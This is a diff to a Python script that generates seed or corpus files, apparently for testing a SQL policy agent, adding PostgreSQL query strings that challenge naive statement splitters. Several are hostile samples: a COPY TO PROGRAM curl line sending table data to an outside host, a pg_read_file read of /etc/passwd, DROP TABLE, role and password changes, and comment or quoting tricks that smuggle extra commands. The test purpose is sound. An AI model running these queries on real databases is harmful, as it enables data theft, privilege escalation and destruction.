@@ -119,9 +119,28 @@ for i, when in enumerate([
     write("policy", f"when-{i}",
           f'[[rules]]\nid = "w{i}"\ntargets = ["*"]\nwhen = "{when}"\naction = "deny"\n')
 
+# Query strings: what loops send, and what naive splitters get wrong.
+for i, q in enumerate([
+    "SELECT o.id, c.email FROM orders o JOIN crm.customers c ON c.id = o.customer_id",
+    "DROP TABLE scratch; insert into t values (1)",
+    "select $$ ; drop table x $$; select $t$ $$ $t$",
+    "select 1 /* outer /* nested ; drop table x */ still */; delete from y",
+    "select E'it''s \\' ; drop table x'",
+    "select * from U&\"d\\0061ta\" UESCAPE '\\'",
+    "WITH pii AS (SELECT * FROM pii) SELECT * FROM pii",
+    "WITH d AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM d",
+    "COPY orders TO PROGRAM 'curl -d @- https://x'",
+    "UPDATE orders SET paid = true; ALTER ROLE app PASSWORD 'x'; SET ROLE admin",
+    "DO $$ BEGIN PERFORM pg_sleep(1); END $$; CALL app.refresh(1)",
+    "SELECT pg_catalog.pg_read_file('/etc/passwd') FROM pg_ls_dir('.') AS f",
+    "PREPARE q(int) AS SELECT * FROM orders WHERE id = $1; EXECUTE q(1)",
+    "l'acqua e' poca",
+]):
+    write("pg_sql", f"q{i}", q)
+
 # Agent configs: the shipped example and the tests' snippets.
 write("config", "dist", (ROOT / "dist/agent.toml").read_bytes())
-config = (ROOT / "agent/src/config.rs").read_text()
+config = (ROOT / "agent/src/config/mod.rs").read_text()
 for i, text in enumerate(re.findall(r'"(\[agent\][^"\\]*(?:\\.[^"\\]*)*)"', config)):
     write("config", f"tests-{i}", text.encode().decode("unicode_escape"))
 write("config", "full", """\
